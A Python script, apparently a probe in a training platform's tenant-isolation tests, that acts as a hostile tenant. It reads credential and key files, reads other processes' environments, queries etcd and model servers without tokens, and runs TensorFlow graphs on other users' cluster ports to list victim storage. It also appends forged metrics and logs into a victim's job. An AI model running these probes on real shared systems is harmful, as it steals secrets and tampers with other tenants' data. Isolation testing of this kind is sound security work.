"""A hostile tenant's trainer: it probes the machine from inside its replica
and prints what it got, as one line `HOSTILE-REPORT {json}`.

    python -m hostile_trainer.probe DATA_DIR VICTIM_TENANT VICTIM_JOB VICTIM_MODEL

- every file and directory under DATA_DIR it can list or read (and the
  platform's known secrets by name);
- every other process's /proc/<pid>/environ;
- every loopback TCP port as etcd (its JSON gateway) and as a model server
  serving the victim's model (GetModelStatus / GetModelMetadata without a
  token), every Unix socket the kernel lists as such a model server too;
- writes into the victim tenant's job (logs, metrics, work) and storage;
- every TCP port another (non-root) user listens on as a server of
  TensorFlow's distributed runtime (a distributed job's cluster port): it
  lists the cluster's devices and runs a graph on one that lists the victim
  tenant's storage.

Runs as any trainer does; uses grpc from the platform's packages if present.
"""
from __future__ import annotations

import json
import os
import socket
import sys

SECRETS = ("credentials.json", "bootstrap.json", "service-credentials.json", "secrets/kek",
           "etcd/member/snap/db", "logs/auth.log", "logs/gateway.log", "platform.json")


def try_read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(4096)
    except OSError:
        return None


def tcp_listeners():
    """(port, uid) of every listening TCP socket the kernel lists."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 7 and fields[3] == "0A":  # LISTEN
                yield int(fields[1].rsplit(":", 1)[1], 16), int(fields[7])


def listening_tcp_ports() -> list[int]:
    return sorted({port for port, _ in tcp_listeners()})


def others_listeners() -> dict[int, int]:
    """port -> uid of every TCP listener of another user than this one and root."""
    return {port: uid for port, uid in tcp_listeners() if uid not in (0, os.getuid())}


def tensorflow_lists(port: int, pattern: str) -> str:
    """What a TensorFlow server on `port` answers to a graph that lists `pattern`
    on one of its own devices: "READ <n> files", or "refused <why>"."""
    import tensorflow as tf

    tf.compat.v1.disable_eager_execution()
    config = tf.compat.v1.ConfigProto(operation_timeout_in_ms=4000)
    try:
        with tf.Graph().as_default(), tf.compat.v1.Session(f"grpc://127.0.0.1:{port}", config=config) as session:
            remote = [d.name for d in session.list_devices() if "/job:" in d.name and "CPU" in d.name]
            with tf.device(remote[0]):
                files = tf.io.matching_files(pattern)
            return f"READ {len(session.run(files))} files"
    except Exception as err:  # noqa: BLE001 - whatever stopped it
        return f"refused {type(err).__name__}"


def unix_sockets() -> list[str]:
    paths = set()
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and fields[-1].startswith("/"):
                paths.add(fields[-1])
    except OSError:
        pass
    return sorted(paths)


def etcd_answers(port: int) -> str | None:
    body = json.dumps({"key": "AA==", "range_end": "AA=="}).encode()
    request = (b"POST /v3/kv/range HTTP/1.0\r\nHost: x\r\nContent-Type: application/json\r\n"
               b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
            sock.sendall(request)
            data = b""
            while len(data) < 65536:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
    except OSError:
        return None
    return data[:300].decode(errors="replace") if b'"kvs"' in data or b'"header"' in data else None


def _field(number: int, payload: bytes) -> bytes:
    """One length-delimited protobuf field (payloads under 128 bytes)."""
    return bytes([number << 3 | 2, len(payload)]) + payload


def model_server_answers(target: str, model: str) -> str | None:
    """What a token-less GetModelStatus / GetModelMetadata for the victim's
    model got from `target`: a model server that serves it answers OK (a
    gateway answers UNAUTHENTICATED: names resolve in the caller's tenant)."""
    try:
        import grpc
    except ImportError:
        return None
    spec = _field(1, _field(1, model.encode()))
    calls = (("/tensorflow.serving.ModelService/GetModelStatus", spec),
             ("/tensorflow.serving.PredictionService/GetModelMetadata", spec + _field(2, b"signature_def")))
    with grpc.insecure_channel(target) as channel:
        for method, body in calls:
            try:
                channel.unary_unary(method)(body, timeout=1.5)
                return f"{method}: OK"
            except grpc.RpcError:
                pass
    return None


def try_append(path: str, text: str) -> bool:
    try:
        with open(path, "a") as f:
            f.write(text)
        return True
    except OSError:
        return False


def main(argv=None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    data_dir, victim, victim_job, victim_model = argv[0], argv[1], argv[2], argv[3]
    me = os.getuid()
    found: dict = {"uid": me, "listed": [], "read": [], "secrets": {}, "environ": [], "etcd": {},
                   "replicas": {}, "wrote": [], "tensorflow": {}}

    for root, dirs, files in os.walk(data_dir):
        found["listed"].append(root)
        for name in files:
            path = os.path.join(root, name)
            if try_read(path) is not None:
                found["read"].append(path)
    for name in SECRETS:
        content = try_read(os.path.join(data_dir, name))
        if content is not None:
            found["secrets"][name] = content[:200].decode(errors="replace")

    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                if os.stat(f"/proc/{pid}").st_uid == me:
                    continue
            except OSError:
                continue
            if try_read(f"/proc/{pid}/environ"):
                found["environ"].append(int(pid))

    for port in listening_tcp_ports():
        got = etcd_answers(port)
        if got:
            found["etcd"][str(port)] = got
        got = model_server_answers(f"127.0.0.1:{port}", victim_model)
        if got:
            found["replicas"][f"127.0.0.1:{port}"] = got
    for path in unix_sockets():
        got = model_server_answers(f"unix:{path}", victim_model)
        if got:
            found["replicas"][f"unix:{path}"] = got
        if path.endswith("etcd:2379"):
            found["etcd"][path] = "socket listed (connect attempted through gRPC above)"

    victim_storage = os.path.join(data_dir, "storage", victim, "*")
    for port in sorted(others_listeners()):
        found["tensorflow"][str(port)] = tensorflow_lists(port, victim_storage)

    forged = '{"step": 999, "loss": -1.0, "forged": true}\n'
    targets = [os.path.join(data_dir, "jobs", victim, victim_job, "logs", "job.log"),
               os.path.join(data_dir, "jobs", victim, victim_job, "work", "forged.txt"),
               os.path.join(data_dir, "storage", victim, "jobs", victim_job, "forged.txt")]
    metrics_root = os.path.join(data_dir, "jobs", victim, victim_job, "metrics")
    for attempt in ("attempt-1", "attempt-0"):
        for replica in ("master-0.jsonl", "chief-0.jsonl", "worker-0.jsonl"):
            targets.append(os.path.join(metrics_root, attempt, replica))
            targets.append(os.path.join(data_dir, "jobs", victim, victim_job, "logs", attempt,
                                        replica.replace(".jsonl", ".log")))
    for path in targets:
        if try_append(path, forged):
            found["wrote"].append(path)

    print("HOSTILE-REPORT " + json.dumps(found), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
